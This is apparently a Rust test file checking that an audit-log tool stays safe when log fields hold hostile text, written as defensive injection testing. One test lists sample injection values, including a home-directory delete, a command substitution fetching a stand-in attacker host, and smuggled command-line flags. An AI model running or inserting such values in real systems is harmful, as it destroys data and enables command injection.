//! Text of strangers in a log: actors, programs, addresses, actions, details, and whatever stands in `data`.

use std::path::Path;

use patkeeper_sim::AuditSeed;
use patkeeper_tests::hostile::{assert_harmless, assert_harmless_file, hostile};
use patkeeper_tests::world::ACME;

use crate::scene::{CREATED, LEAKED, Scene, count, step};

#[test]
fn nothing_that_an_entry_holds_takes_effect() {
    let mut scene = Scene::new();
    let texts = hostile();
    scene.cloud(|cloud| {
        for (number, text) in texts.iter().enumerate() {
            let actor = cloud.add_user(ACME, text, text);
            let at = cloud.now() - chrono::TimeDelta::minutes(i64::try_from(number).unwrap() + 1);
            for action in [CREATED, LEAKED, text] {
                let event = AuditSeed::new(ACME, action)
                    .at(at)
                    .by(&actor)
                    .from(text, text)
                    .details(text);
                let event = event
                    .data("DisplayName", text.as_str())
                    .data("AuthorizationId", text.as_str());
                let event = event.data("OwnerName", text.as_str()).data(text, text.as_str());
                cloud.add_event(event.data("Scopes", format!("app_token {text}")));
            }
        }
    });
    let step = step()
        .input("actions", "*")
        .input("reportFormats", "json markdown csv");
    let step = scene.world.telling_all(step);
    let run = scene.audit(&step);
    assert_harmless(&run);
    let leaks = u32::try_from(texts.len()).unwrap();
    assert_eq!(count(&run, "leaked"), leaks, "{}", run.log());
    let folder = Path::new(run.output("reportJson")).parent().unwrap();
    let written = std::fs::read_dir(folder)
        .unwrap()
        .flatten()
        .map(|entry| entry.path());
    let written: Vec<_> = written.collect();
    assert_eq!(written.len(), 3, "{written:?}");
    written.iter().for_each(|path| assert_harmless_file(path));
    let told = scene.cloud(|cloud| cloud.deliveries.clone());
    assert_eq!(told.len(), 3);
    assert!(told.iter().all(patkeeper_sim::Delivery::accepted), "{told:?}");
}

#[test]
fn no_id_of_a_stranger_becomes_part_of_a_command_to_copy() {
    for id in [
        "x; rm -rf ~",
        "$(curl evil.example)",
        "`id`",
        "5a1e0000-0000-4000-8000-00000000abcd --all true",
        "a\n--dry-run false",
    ] {
        let mut scene = Scene::new();
        scene.cloud(|cloud| {
            let at = cloud.now() - chrono::TimeDelta::hours(1);
            cloud.add_event(AuditSeed::new(ACME, LEAKED).at(at).data("AuthorizationId", id));
        });
        let run = scene.audit(&step());
        let commands: Vec<String> = run
            .log()
            .lines()
            .filter(|line| line.contains("--authorization-ids"))
            .map(str::to_owned)
            .collect();
        assert!(commands.is_empty(), "{id}: {commands:?}");
        assert_eq!(count(&run, "leaked"), 1);
    }
}

#[test]
fn no_pattern_takes_effect() {
    let patterns: Vec<String> = hostile()
        .into_iter()
        .filter(|name| !name.contains(['\n', '\r', '\0']) && !name.contains("$("))
        .collect();
    let mut scene = Scene::busy();
    let patterns = patterns.join("\n");
    let run = scene.audit(
        &step()
            .input("actors", &patterns)
            .input("reportFormats", "markdown csv"),
    );
    assert_harmless(&run);
    let run = scene.audit(&step().input("actions", &patterns));
    assert_harmless(&run);
}
